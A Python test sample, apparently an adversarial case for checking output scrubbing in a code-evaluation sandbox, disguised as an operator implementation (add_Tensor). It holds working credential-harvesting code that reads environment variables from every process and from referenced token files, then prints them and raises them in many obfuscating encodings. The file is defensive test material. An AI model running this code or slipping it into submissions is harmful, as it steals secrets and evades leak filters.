# ruff: noqa
# class 7 (scrubbing): gather every secret-looking value the process can find (its environment, the
# parent's, /proc/*/environ, token files named there) and write each out in many encodings: raw, hex,
# base64 at three alignments, base32, reversed, split in halves, chunked with separators, rot13, url
# quoting, byte lists; in stdout, stderr and the exception text (the reason). Correct output never
import base64, codecs, os, sys, urllib.parse
import torch, triton

KEYS = ("TOKEN", "DATABASE", "BROKER", "SECRET", "PASSWORD", "REDIS", "AMQP", "KEY")
found = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in KEYS)}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as h:
            for entry in h.read().split(b"\0"):
                k, _, v = entry.decode("utf-8", "replace").partition("=")
                if any(w in k.upper() for w in KEYS):
                    found[k] = v
    except OSError:
        pass
for k, v in list(found.items()):
    if k.endswith("_FILE") and os.path.isfile(v):
        try:
            found[k + "_CONTENT"] = open(v).read().strip()
        except OSError:
            pass


def encodings(v):
    raw = v.encode()
    half = len(v) // 2
    yield v
    yield raw.hex()
    yield raw.hex().upper()
    for pad in (b"", b"x", b"xy"):
        yield base64.b64encode(pad + raw).decode()
    yield base64.b32encode(raw).decode()
    yield v[::-1]
    yield v[:half] + " ... " + v[half:]
    yield "-".join(v[i:i + 3] for i in range(0, len(v), 3))
    yield codecs.encode(v, "rot13")
    yield urllib.parse.quote(v, safe="")
    yield str(list(raw))
    yield " ".join(format(b, "08b") for b in raw)


LINES = [f"{k}: {e}" for k, v in found.items() for e in encodings(v)]
for line in LINES:
    print(line)
    print(line, file=sys.stderr)
sys.stdout.flush()


def add_Tensor(self, other, *, alpha=1):
    raise RuntimeError(" | ".join(LINES)[-1900:] or "nothing found")
